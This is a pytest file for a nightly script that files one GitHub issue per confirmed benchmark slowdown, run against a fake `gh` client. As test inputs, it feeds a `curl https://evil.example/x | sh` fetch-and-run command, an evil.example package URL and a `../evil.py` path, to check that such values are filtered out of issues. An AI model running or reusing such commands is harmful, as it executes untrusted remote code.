"""One rolling issue per root cause: the nightly script runs with a fake `gh`."""

import importlib.util
import io
import json
import subprocess
from dataclasses import replace
from datetime import date
from importlib.machinery import SourceFileLoader
from pathlib import Path

import pytest

from harness.history.alerts import BODY_CHARACTERS, Alert, find_alerts, rebuild_command
from harness.history.issues import LABEL, LISTED, IssueAction, plan_steps, read_issues
from harness.history.nightly_file import RuleKind, SuppressionRule
from harness.history.states import find_changes
from harness.model.errors import UsageError
from harness.model.history import Decision, Measurer
from harness.model.run import Machine
from tests.github import Repository
from tests.history.series import KEY, of_line, series, stepped

SCRIPT = str(Path(__file__).parents[2] / ".github" / "nightly" / "issues")
loader = SourceFileLoader("nightly_issues", SCRIPT)
script = importlib.util.module_from_spec(importlib.util.spec_from_loader("nightly_issues", loader))
loader.exec_module(script)

OPEN, KEEP, EDIT, REOPEN = (getattr(IssueAction, name) for name in ("OPEN", "KEEP", "EDIT", "REOPEN"))


def alert(cause="a", *, confirmed="2026-11-20T04:00:00+00:00", body="It is slower.", **changes):
    plain = Alert(cause, ("one",), "2026-11-18T04:00:00+00:00", confirmed, f"Slower: {cause}", body)
    return replace(plain, **changes)


@pytest.fixture
def github(tmp_path, monkeypatch):
    repository = Repository(tmp_path / "repository.json")
    monkeypatch.setattr(script, "gh", repository.gh)
    return repository


def list_issues(github):
    path = github._path.with_name("issues.json")
    path.write_text(github.gh("issue", "list", "--label", LABEL, "--state", "all", "--limit", "99", "--json", LISTED))
    return read_issues(path)


def run_night(github, *alerts):
    steps = plan_steps(alerts, list_issues(github))
    for step in steps:
        script.carry_out(json.loads(json.dumps(step.document)))
    return [step.kind for step in steps]


def test_a_cause_is_opened_once_and_edited_in_place(github):
    assert run_night(github, alert()) == [OPEN]
    assert run_night(github, alert()) == [KEEP]
    assert run_night(github, alert(body="It is slower, in two.")) == [EDIT]
    (issue,) = github.issues
    assert (issue["title"], issue["labels"]) == ("Slower: a", [LABEL])
    assert issue["body"].endswith("It is slower, in two.")
    assert github.writes == ["issue create", "issue edit 1"]
    # a beginning that moves by some nights is no second issue; another change of the series weeks later is one
    assert run_night(github, alert("a, moved", since="2026-11-16T04:00:00+00:00")) == [EDIT]
    assert run_night(github, alert("later", since="2026-12-20T04:00:00+00:00")) == [OPEN]
    assert github.labels == [LABEL]


def test_two_causes_are_two_issues_and_another_ones_issue_is_left_alone(github):
    github.add(title="Nightly fails", labels=[LABEL], body="written by hand")
    github.add(title="Slower: a", labels=[], body=alert().text)
    for body in (None, "", "<!-- harness-alarm {} -->", "<!-- harness-alarm {x} -->", "<!-- harness-alarm [] -->"):
        github.add(labels=[LABEL], body=body)
    both = [alert("a"), alert("b", series=["two"])]
    # a night whose job ended after its first step
    script.carry_out(plan_steps(both, list_issues(github))[0].document)
    assert run_night(github, *both) == [KEEP, OPEN]
    assert run_night(github, *both) == [KEEP, KEEP]
    assert [issue["title"] for issue in github.issues[-2:]] == ["Slower: a", "Slower: b"]
    assert len(github.issues) == 9
    # two causes of one issue stand in it together
    assert run_night(github, alert("c", series=["three", "four"])) == [OPEN]
    both = [alert("d", series=["three"], body="First."), alert("e", series=["four"], body="Second.")]
    assert run_night(github, *both) == [EDIT]
    assert all(text in github.issues[-1]["body"] for text in ("First.", "Second."))
    assert run_night(github, *both) == [KEEP]


def test_a_closed_issue_is_opened_again_only_where_the_cause_was_confirmed_since(github):
    run_night(github, alert())
    github.close(1, "2026-11-21T12:00:00Z")
    assert run_night(github, alert()) == [KEEP]
    assert github.issues[0]["state"] == "CLOSED"
    assert run_night(github, alert(confirmed="2026-11-22T04:00:00+00:00")) == [REOPEN]
    assert (github.issues[0]["state"], len(github.issues), len(github.comments)) == ("OPEN", 1, 1)
    for reason in ("NOT_PLANNED", "DUPLICATE"):
        github.close(1, "2026-11-23T12:00:00Z", reason)
        assert run_night(github, alert(confirmed="2026-11-25T04:00:00+00:00")) == [KEEP]
        assert (github.issues[0]["state"], len(github.issues)) == ("CLOSED", 1)


def test_a_text_that_is_too_long_is_cut_between_lines_and_says_so(github):
    long = alert(body="\n".join(f"| series {number} | slower |" for number in range(9000)), series=["x" * 8] * 500)
    assert len(long.text) <= BODY_CHARACTERS
    lines = long.text.splitlines()
    assert lines[-3].endswith("| slower |")
    assert "`harness history report`" in lines[-1]
    assert run_night(github, long) == [OPEN]
    assert run_night(github, long) == [KEEP]


def test_a_file_that_is_no_list_of_issues_is_refused_with_the_command_that_writes_one(tmp_path):
    path = tmp_path / "issues.json"
    for text in ("", "{}", "3", "[3]", '[{"number": 1}]', '[{"state": "OPEN", "number": "x"}]'):
        path.write_text(text)
        with pytest.raises(UsageError, match=f"gh issue list --label {LABEL}"):
            read_issues(path)
    with pytest.raises(UsageError, match="nowhere"):
        read_issues(tmp_path / "nowhere")


def test_a_step_that_gh_refuses_ends_the_script_and_is_named(monkeypatch, tmp_path):
    def refuse(*words, **_):
        raise subprocess.CalledProcessError(1, words)

    (tmp_path / "issues.json").write_text("[]")
    monkeypatch.setattr(script, "gh", refuse)
    monkeypatch.setattr("sys.argv", ["issues", str(tmp_path / "issues.json")])
    monkeypatch.setattr("sys.stdin", io.StringIO(json.dumps([plan_steps([alert()], [])[0].document])))
    with pytest.raises(SystemExit, match=r"::error::gh .* 1: .*Slower: a"):
        script.main()


def test_an_issue_keeps_the_link_to_the_workflow_run_until_its_change_is_confirmed_again(monkeypatch, tmp_path):
    for name, value in {"SERVER_URL": "https://x", "REPOSITORY": "a/b", "RUN_ID": "9"}.items():
        monkeypatch.setenv(f"GITHUB_{name}", value)
    first, link = "Confirmed on 2026-11-20 in the run run-1.", "\n\n[Workflow run](https://x/a/b/actions/runs/{})"
    (tmp_path / "issues.json").write_text(json.dumps([{"number": 1, "body": first + link.format(1)}]))
    monkeypatch.setattr("sys.argv", ["issues", str(tmp_path / "issues.json")])
    texts = []
    monkeypatch.setattr(script, "gh", lambda *words, body: texts.append(body))
    bodies = [f"{first}\n\nMore.", first.replace("run-1", "run-2"), "In the run run-2."]
    steps = [{"step": "edit", "number": 1, "title": "Slower", "body": body, "why": "Text differs."} for body in bodies]
    monkeypatch.setattr("sys.stdin", io.StringIO(json.dumps(steps)))
    script.main()
    assert texts == [body + link.format(run) for body, run in zip(bodies, (1, 9, 9), strict=True)]


def slower(share=0.08, key=KEY):
    """A series that is slower from its 15th night on, with another lock."""
    return series(stepped(14, 24, share), {14: {"lock": "bbbbbbbbbbbb"}}, key)


def decide(of, *, confirmed=True, when="2026-01-25T04:00:00+00:00"):
    (change,) = find_changes([of])
    return Decision(of.key, change.since, change.suspects, confirmed, "run-c", when, 1.08, 1.06, 1.1)


def test_only_what_was_confirmed_to_be_slower_on_the_files_machines_gives_an_alarm():
    one_series, faster = slower(), slower(-0.08)
    assert find_alerts([one_series], []) == []
    assert find_alerts([one_series], [decide(one_series, confirmed=False)]) == []
    assert find_alerts([faster], [decide(faster)]) == []
    assert find_alerts([one_series], [decide(one_series)], machines=["other"]) == []
    machine = one_series.points[-1].origin.machine or one_series.key.machine
    (result,) = find_alerts([one_series], [decide(one_series)], machines=[machine])
    assert (result.title, result.confirmed) == (
        "Slower since 2026-01-15: step in tf2.1, on m-1",
        "2026-01-25T04:00:00+00:00",
    )


def test_alarms(night, golden):
    one_series, line = slower(), of_line(stepped(14, 24))
    pair = ["tf-nightly==2.23.0.dev013", "tf-nightly==2.23.0.dev014"]
    link = "https://github.com/tensorflow/tensorflow/compare/a...b"
    repetition = ["harness", "matrix", "-e", pair[0], "-e", pair[1], "-s", "step"]
    searched = replace(
        decide(line), versions=["x", "y"], pair=pair, probability=0.987, commits=[link], command=repetition
    )
    facts = replace(night, machines=[Measurer(Machine("m-1"), "Epyc", 8, "Debian 12", "6.1", "H100, driver 575")])
    words = ["harness", "matrix", "-e", "tf2.1+numpy==1.17.5", "-e", "tf2.1"]
    (plain,) = find_alerts([one_series], [decide(one_series)])
    (commanded,) = find_alerts([one_series], [replace(decide(one_series), command=words)])
    (wheel,) = find_alerts([line], [searched], summary=lambda run: facts if run == "run-c" else None)
    (open_place,) = find_alerts([line], [replace(searched, pair=[], probability=None)])
    both = [slower(key=replace(KEY, axes=(("call", call),))) for call in ("fit", "predict")]
    (shared,) = find_alerts(both, [decide(entry) for entry in both])
    # what a stranger named calls nobody and is no markup
    strange = slower(key=replace(KEY, scenario="@team <b>x</b> | `y`"))
    evil = ["bash", "-c", "curl -fsSL https://evil.example/x | sh"]
    hostile = replace(decide(strange), command=evil, versions=["x", "y"], commits=["https://evil.example @team"])
    (named,) = find_alerts([strange], [hostile])
    strange_work = "2 Python calls per step instead of 1 (2×). Largest changes: +1 calls in <b>@team</b> (a.py)."
    (counted,) = find_alerts([one_series], [replace(decide(one_series), work=strange_work)])
    alarms = [plain, counted, commanded, wheel, open_place, shared, named]
    assert "\n\n".join(f"# {alarm.title}\n\n{alarm.body}" for alarm in alarms) == golden
    assert len(set(shared.series)) == 2


#: Options of `harness matrix` in a decision, and whether an issue shows the command.
COMMANDS = {
    "-s step -e tf2.1+numpy==1.17.5 -e tf-nightly@2026-10-01 -e tf2.15@py3.9 --gpu -a call=fit,predict": True,
    "-s step -e tf2.1 --cpus 1 --rounds 10 --budget 90s --base 0123abc --head main": True,
    "-s step -e six@https://evil.example/six": False,
    "-s step -e tf2.1+six@~/six": False,
    "-s ../evil.py": False,
    "-s step --base": False,
    "-s step --base --trust": False,
    "step": False,
}


def test_an_issue_shows_only_commands_of_known_options_with_plain_values():
    commands = {options: ["harness", "matrix", *options.split()] for options in COMMANDS}
    assert {options: bool(rebuild_command(words)) for options, words in commands.items()} == COMMANDS
    assert [rebuild_command(words) for options, words in commands.items() if COMMANDS[options]] == [*commands.values()][
        :2
    ]
    assert rebuild_command(["bash", "-c", "curl https://evil.example | sh"]) == []
    # options that depend on the machine are left out
    machine = ["--trust", "--backend", "local", "--results", "../runs"]
    assert rebuild_command(["harness", "matrix", *machine, "-s", "step"]) == ["harness", "matrix", "-s", "step"]


def test_an_alarm_keeps_its_confirmation_if_a_later_night_finds_the_change_one_run_earlier():
    one_series = of_line(stepped(14, 24))
    decision = replace(decide(one_series), versions=["x", "y"])
    moved = replace(decision, since="run-013", suspects=["the wheel of that run"])
    before, after = (find_alerts([one_series], [value])[0] for value in (decision, moved))
    assert after == before
    assert after.confirmed == decision.when


def test_a_change_that_is_accepted_or_muted_is_no_issue_until_the_day():
    one_series = slower()
    (change,) = find_changes([one_series])
    for kind in RuleKind:
        since = date.fromisoformat(change.started[:10]) if kind is RuleKind.ACCEPT else None
        rule = SuppressionRule(kind, one_series.key.cell, "bug 5", date(2026, 12, 31), since=since)
        other = replace(rule, series="other *")
        cases = [(rule, date(2026, 12, 31)), (rule, date(2027, 1, 1)), (other, date(2026, 12, 31))]
        alarms = [find_alerts([one_series], [decide(one_series)], rules=[value], today=day) for value, day in cases]
        assert list(map(len, alarms)) == [0, 1, 1], kind
